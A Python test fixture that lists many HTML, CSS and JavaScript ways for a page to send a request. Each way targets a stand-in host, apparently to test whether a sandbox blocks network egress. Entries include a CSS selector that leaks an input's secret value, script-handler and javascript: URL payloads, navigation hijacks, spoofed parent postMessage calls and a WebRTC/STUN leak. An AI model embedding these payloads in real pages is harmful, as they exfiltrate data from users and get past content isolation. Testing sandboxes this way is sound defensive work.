"""Ways in which a document can send a request. Each requests a different host, so that a witness can report which succeeded.

`MARKUP` works without scripts and `SCRIPT` needs one. Each way of `LEAVING` leaves the page, so each is tried alone.
"""


def host(name: str) -> str:
    return f"http://{name}.out.test"


MARKUP = {
    "img": '<img src="{u}/a.png">',
    "img-srcset": '<img srcset="{u}/a.png 1x, {u}/b.png 2x">',
    "picture": '<picture><source srcset="{u}/a.webp"><img alt=""></picture>',
    "img-tls": '<img src="https://img-tls.out.test/a.png">',
    "input-image": '<input type="image" src="{u}/a.png">',
    "body-background": '<table background="{u}/a.png"><tr><td>x</table>',
    "video": '<video src="{u}/a.mp4" autoplay muted></video>',
    "audio": '<audio src="{u}/a.mp3" autoplay></audio>',
    "media-source": '<video autoplay muted><source src="{u}/a.webm"></video>',
    "poster": '<video poster="{u}/a.png"></video>',
    "track": '<video src="data:video/mp4;base64,AAAA" crossorigin><track default src="{u}/a.vtt"></video>',
    "iframe": '<iframe src="{u}/"></iframe>',
    "iframe-srcdoc": '<iframe srcdoc="&lt;img src={u}/a.png&gt;"></iframe>',
    "iframe-srcdoc-link": '<iframe srcdoc="&lt;link rel=preconnect href={u}&gt;"></iframe>',
    "object": '<object data="{u}/a.svg" type="image/svg+xml"></object>',
    "embed": '<embed src="{u}/a.svg" type="image/svg+xml">',
    "stylesheet": '<link rel="stylesheet" href="{u}/a.css">',
    "icon": '<link rel="icon" href="{u}/a.ico">',
    "prefetch": '<link rel="prefetch" href="{u}/a">',
    "prerender": '<link rel="prerender" href="{u}/a">',
    "preload": '<link rel="preload" as="image" href="{u}/a.png">',
    "preload-font": '<link rel="preload" as="font" crossorigin href="{u}/a.woff2">',
    "preload-srcset": '<link rel="preload" as="image" imagesrcset="{u}/a.png 1x">',
    "modulepreload": '<link rel="modulepreload" href="{u}/a.js">',
    "preconnect": '<link rel="preconnect" href="{u}">',
    "preconnect-odd": '<LiNk\nrel=preconnect\thref="{u}">',
    "preconnect-slash": '<link/rel="preconnect"/href="{u}">',
    "preconnect-svg": '<svg><foreignObject><link rel="preconnect" href="{u}"></foreignObject></svg>',
    "preconnect-template": '<div><template shadowrootmode="open"><link rel="preconnect" href="{u}"></template></div>',
    "dns-prefetch": '<link rel="dns-prefetch" href="//dns-prefetch.name.test">',
    "dns-anchor": '<meta http-equiv="x-dns-prefetch-control" content="on"><a href="https://dns-anchor.name.test/">x</a>',
    "manifest": '<link rel="manifest" href="{u}/a.json">',
    "dictionary": '<link rel="compression-dictionary" href="{u}/a">',
    "css-import": '<style>@import url("{u}/a.css");</style>',
    "css-namespace": '<style>@namespace x url("{u}/ns"); x|a {{ color: red }}</style>',
    "css-background": '<style>#cb {{ background: url("{u}/a.png") }}</style><p id="cb">x</p>',
    "css-font": '<style>@font-face {{ font-family: f; src: url("{u}/a.woff2") }} #cf {{ font-family: f }}</style><p id="cf">x</p>',
    "css-cursor": '<style>#cc {{ cursor: url("{u}/a.cur"), auto }}</style><p id="cc">x</p>',
    "css-list": '<style>#cl {{ list-style-image: url("{u}/a.png") }}</style><ul><li id="cl">x</ul>',
    "css-filter": '<style>#cx {{ filter: url("{u}/a.svg#f") }}</style><p id="cx">x</p>',
    "css-mask": '<style>#cm {{ mask-image: url("{u}/a.svg") }}</style><p id="cm">x</p>',
    "css-border": '<style>#cr {{ border: 9px solid; border-image: url("{u}/a.png") 1 }}</style><p id="cr">x</p>',
    "css-content": '<style>#ct::before {{ content: url("{u}/a.png") }}</style><p id="ct">x</p>',
    "css-shape": '<style>#cs {{ float: left; shape-outside: url("{u}/a.png") }}</style><p id="cs">x</p>',
    "css-image-set": '<style>#ci {{ background: image-set("{u}/a.png" 1x) }}</style><p id="ci">x</p>',
    "css-variable": '<style>#cv {{ --u: url("{u}/a.png"); background: var(--u) }}</style><p id="cv">x</p>',
    "css-attribute": "<p style=\"background: url('{u}/a.png')\">x</p>",
    "css-selector": '<style>input[value^="s"] {{ background: url("{u}/s.png") }}</style><input value="secret">',
    "svg-image": '<svg><image href="{u}/a.png" width="9" height="9"/></svg>',
    "svg-image-old": '<svg><image xlink:href="{u}/a.png" width="9" height="9"/></svg>',
    "svg-use": '<svg><use href="{u}/a.svg#x"/></svg>',
    "svg-feimage": '<svg><filter id="fi"><feImage href="{u}/a.png"/></filter><rect width="9" height="9" filter="url(#fi)"/></svg>',
    "svg-fill": '<svg><rect width="9" height="9" fill="url({u}/a.svg#g)"/></svg>',
    "svg-set": '<svg><image width="9" height="9"><set attributeName="href" to="{u}/a.png"/></image></svg>',
    "svg-script": '<svg><script href="{u}/a.js"/></svg>',
    "script": '<script src="{u}/a.js"></script>',
    "script-module": '<script type="module" src="{u}/a.js"></script>',
    "script-inline": "<script>new Image().src = '{u}/a.png'</script>",
    "script-import": "<script type=\"module\">import '{u}/a.js'</script>",
    "script-handler": "<img src=\"data:,x\" onerror=\"new Image().src = '{u}/a.png'\">",
    "script-address": "<iframe src=\"javascript:new Image().src='{u}/a.png'\"></iframe>",
    "importmap": '<script type="importmap">{{"imports": {{"x": "{u}/x.js"}}}}</script><script type="module">import "x"</script>',
    "speculation": '<script type="speculationrules">{{"prefetch": [{{"source": "list", "urls": ["{u}/a"]}}]}}</script>',
    "csp-report": '<meta http-equiv="Content-Security-Policy" content="img-src *; report-uri {u}/r">',
    "base": '<base href="{u}/"><img src="relative.png">',
    "attribution": '<img src="data:," attributionsrc="{u}/a">',
    "host-proxy": '<img src="../../../media?u=http%3A%2F%2Fhost-proxy.out.test%2F">',
    "host-proxy-surface": '<img src="../../media?u=http%3A%2F%2Fhost-proxy-surface.out.test%2F">',
    "noscript": '<noscript><img src="{u}/a.png"></noscript>',
    "fencedframe": '<fencedframe src="{u}/"></fencedframe>',
    "portal": '<portal src="{u}/"></portal>',
    "frameset": '<frameset><frame src="{u}/"></frameset>',
    "autofocus": "<input autofocus onfocus=\"new Image().src = '{u}/a.png'\">",
}

# Each is the body of an async function with `u`, the address of its host, and `h`, the host; its errors are ignored.
SCRIPT = {
    "js-fetch": "await fetch(u)",
    "js-fetch-no-cors": "await fetch(u, { mode: 'no-cors' })",
    "js-keepalive": "await fetch(u, { method: 'POST', body: 'x', keepalive: true, mode: 'no-cors' })",
    "js-fetch-later": "fetchLater(u, { activateAfter: 0 })",
    "js-xhr": "const x = new XMLHttpRequest(); x.open('GET', u); x.send()",
    "js-websocket": "new WebSocket(u.replace('http', 'ws'))",
    "js-websocketstream": "new WebSocketStream(u.replace('http', 'ws'))",
    "js-eventsource": "new EventSource(u)",
    "js-beacon": "navigator.sendBeacon(u, 'x')",
    "js-image": "new Image().src = u",
    "js-audio": "new Audio(u).play()",
    "js-video": "const v = document.createElement('video'); v.src = u; v.load()",
    "js-track": "const v = document.createElement('video'), t = document.createElement('track'); t.default = true; t.src = u; v.crossOrigin = ''; v.src = 'data:video/mp4,'; v.append(t); document.body.append(v); t.track.mode = 'showing'",
    "js-script": "const s = document.createElement('script'); s.src = u; document.head.append(s)",
    "js-import": "await import(u)",
    "js-worker": "new Worker(URL.createObjectURL(new Blob([`fetch('${u}')`])))",
    "js-worker-import": "new Worker(URL.createObjectURL(new Blob([`importScripts('${u}')`])))",
    "js-shared-worker": "new SharedWorker(URL.createObjectURL(new Blob([`fetch('${u}')`])))",
    "js-service-worker": "await navigator.serviceWorker.register(u)",
    "js-paint": "await CSS.paintWorklet.addModule(u)",
    "js-audio-worklet": "await new AudioContext().audioWorklet.addModule(u)",
    "js-font": "await new FontFace('g', `url(${u})`).load()",
    "js-style": "document.body.style.backgroundImage = `url(${u})`",
    "js-sheet": "const s = new CSSStyleSheet(); s.replaceSync(`body { outline-color: red } html { background: url(${u}) }`); document.adoptedStyleSheets = [s]",
    "js-rule": "document.styleSheets[0].insertRule(`html { border-image: url(${u}) 1 }`)",
    "js-iframe": "const f = document.createElement('iframe'); f.src = u; document.body.append(f)",
    "js-iframe-srcdoc": "const f = document.createElement('iframe'); f.srcdoc = `<img src=${u}>`; document.body.append(f)",
    "js-iframe-blank": "const f = document.createElement('iframe'); document.body.append(f); new f.contentWindow.Image().src = u",
    "js-iframe-data": "const f = document.createElement('iframe'); f.src = `data:text/html,<link rel=preconnect href=${u}>`; document.body.append(f)",
    "js-iframe-blob": "const f = document.createElement('iframe'); f.src = URL.createObjectURL(new Blob([`<link rel=preconnect href=${u}>`], { type: 'text/html' })); document.body.append(f)",
    "js-object": "const o = document.createElement('object'); o.data = u; document.body.append(o)",
    "js-embed": "const o = document.createElement('embed'); o.src = u; document.body.append(o)",
    "js-link": "const l = document.createElement('link'); l.rel = 'preconnect'; l.href = u; document.head.append(l)",
    "js-link-upper": "const l = document.createElement('LINK'); l.setAttribute('rel', 'preconnect'); l.setAttribute('href', u); document.head.append(l)",
    "js-link-prefetch": "const l = document.createElement('link'); l.rel = 'prefetch'; l.href = u; document.head.append(l)",
    "js-link-ns": "const l = document.createElementNS('http://www.w3.org/1999/xhtml', 'link'); l.setAttribute('rel', 'preconnect'); l.setAttribute('href', u); document.head.append(l)",
    "js-link-prefix": "const l = document.createElementNS('http://www.w3.org/1999/xhtml', 'x:link'); l.setAttribute('rel', 'preconnect'); l.setAttribute('href', u); document.head.append(l)",
    "js-link-html": "const d = document.createElement('div'); document.body.append(d); d.innerHTML = `<link rel=preconnect href=${u}>`",
    "js-link-adjacent": "document.body.insertAdjacentHTML('beforeend', `<link rel=preconnect href=${u}>`)",
    "js-link-fragment": "document.body.append(document.createRange().createContextualFragment(`<link rel=preconnect href=${u}>`))",
    "js-link-unsafe": "const d = document.createElement('div'); document.body.append(d); d.setHTMLUnsafe(`<link rel=preconnect href=${u}>`)",
    "js-link-parser": "const d = new DOMParser().parseFromString(`<link rel=preconnect href=${u}>`, 'text/html'); document.head.append(document.adoptNode(d.querySelector('link')))",
    "js-link-xml": "const d = new DOMParser().parseFromString(`<x:link xmlns:x=\"http://www.w3.org/1999/xhtml\" rel=\"preconnect\" href=\"${u}\"/>`, 'text/xml'); document.head.append(document.adoptNode(d.documentElement))",
    "js-link-xml-inner": "const d = document.implementation.createDocument('http://www.w3.org/1999/xhtml', 'div'); d.documentElement.innerHTML = `<x:link xmlns:x=\"http://www.w3.org/1999/xhtml\" rel=\"preconnect\" href=\"${u}\"/>`; document.body.append(document.adoptNode(d.documentElement))",
    "js-link-write": "document.write('<li'); document.write(`nk rel=preconnect href=${u}>`)",
    "js-link-extends": "class L extends HTMLLinkElement {}; customElements.define('x-l', L, { extends: 'link' }); const l = new L(); l.rel = 'preconnect'; l.href = u; document.head.append(l)",
    "js-link-xslt": "const p = new XSLTProcessor(); const s = document.implementation.createDocument('http://www.w3.org/1999/XSL/Transform', 'xsl:stylesheet'); const t = s.createElementNS('http://www.w3.org/1999/XSL/Transform', 'xsl:template'); s.documentElement.setAttribute('version', '1.0'); t.setAttribute('match', '/'); const l = s.createElementNS('http://www.w3.org/1999/xhtml', 'link'); l.setAttribute('rel', 'preconnect'); l.setAttribute('href', u); t.append(l); s.documentElement.append(t); p.importStylesheet(s); document.body.append(p.transformToFragment(s, document))",
    "js-link-clone": "const l = document.querySelector('link, style').cloneNode(); l.rel = 'preconnect'; l.href = u; document.head.append(l)",
    "js-link-existing": "const l = document.querySelector('link'); l.rel = 'preconnect'; l.href = u",
    "js-dns": "const l = document.createElement('link'); l.rel = 'dns-prefetch'; l.href = '//js-dns.name.test'; document.head.append(l)",
    "js-speculation": "const s = document.createElement('script'); s.type = 'speculationrules'; s.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: [u] }] }); document.head.append(s)",
    "js-stun": "const p = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:DATAGRAMS' }] }); p.createDataChannel('x'); await p.setLocalDescription(await p.createOffer())",
    "js-stun-old": "const p = new webkitRTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:DATAGRAMS' }] }); p.createDataChannel('x'); await p.setLocalDescription(await p.createOffer())",
    "js-webtransport": "await new WebTransport('https://js-webtransport.out.test/').ready",
    "js-open": "open(u)",
    "js-form": "const f = document.createElement('form'); f.action = u; f.target = '_blank'; document.body.append(f); f.submit()",
    "js-form-self": "const f = document.createElement('form'); f.action = u; f.method = 'post'; document.body.append(f); f.requestSubmit()",
    "js-anchor": "const a = document.createElement('a'); a.href = u; a.target = '_blank'; document.body.append(a); a.click()",
    "js-download": "const a = document.createElement('a'); a.href = u; a.download = 'x'; document.body.append(a); a.click()",
    "js-ping": "const a = document.createElement('a'); a.href = 'javascript:0'; a.ping = u; document.body.append(a); a.click()",
    "js-top": "top.location = u",
    "js-parent": "parent.location.replace(u)",
    "js-wasm": "await WebAssembly.compileStreaming(fetch(u))",
    "js-payment": "await new PaymentRequest([{ supportedMethods: u }], { total: { label: 'x', amount: { currency: 'EUR', value: '1' } } }).canMakePayment()",
    "js-credential": "await navigator.credentials.get({ identity: { providers: [{ configURL: 'https://js-credential.out.test/c.json', clientId: '1' }] } })",
    "js-notification": "new Notification('x', { icon: u })",
    "js-report": "new ReportingObserver(() => {}).observe(); parent.postMessage({ inlayFrame: { link: u } }, '*'); parent.postMessage({ inlayFrame: { video: u } }, '*')",
    "js-environment": "parent.postMessage({ inlayEnvironment: { locale: u } }, '*'); parent.postMessage(JSON.stringify({ kind: 'navigate', payload: { url: u } }), '*')",
}

# The ways of SCRIPT that replace a page without isolation.
ENDING = {"js-top", "js-parent", "js-form-self", "js-link-write", "js-ping", "js-anchor", "js-download"}

LEAVING = {
    "leave-refresh": '<meta http-equiv="refresh" content="0;url={u}/">',
    "leave-location": "location.href = u",
    "leave-replace": "location.replace(u)",
    "leave-navigation": "navigation.navigate(u)",
    "leave-form": "const f = document.createElement('form'); f.action = u; document.body.append(f); f.submit()",
    "leave-open-self": "open(u, '_self')",
    "leave-write": "document.open(); document.write(`<link rel=preconnect href=${u}><img src=${u}>`); document.close()",
}

# The ways after which the frame holds another document: the requested one, or the browser's error page if it is refused.
NAVIGATING = {"leave-location", "leave-replace", "leave-navigation", "leave-open-self"}

LINKS = [
    '<a id="k1" href="{u}/" ping="{u}/ping">1</a>',
    '<a id="k2" href="{u}/" target="_top">2</a>',
    '<a id="k3" href="{u}/" target="_blank" attributionsrc="{u}/a">3</a>',
    '<a id="k4" href="{u}/file" download>4</a>',
    '<svg width="40" height="40"><a href="{u}/" target="_top"><rect id="k5" width="40" height="40"/></a></svg>',
    '<form action="{u}/"><button id="k6" formaction="{u}/b">6</button></form>',
    '<a id="k7" href="javascript:new Image().src=\'{u}/a.png\'">7</a>',
]


def markup() -> str:
    return "\n".join(text.format(u=host(name)) for name, text in MARKUP.items())


def links() -> str:
    return "\n".join(text.format(u=host(f"link-{index}")) for index, text in enumerate(LINKS))


def script(bodies: dict[str, str], datagrams: int) -> str:
    """One script that starts every way in a function of its own, so that an error of one does not stop the others."""
    ways = "".join(
        f"(async () => {{ const h = '{name}.out.test', u = 'http://' + h + '/a'; {body} }})().catch(() => {{}});\n"
        for name, body in bodies.items()
    )
    return ways.replace("DATAGRAMS", str(datagrams)) + "document.documentElement.dataset.tried = 'yes';\n"
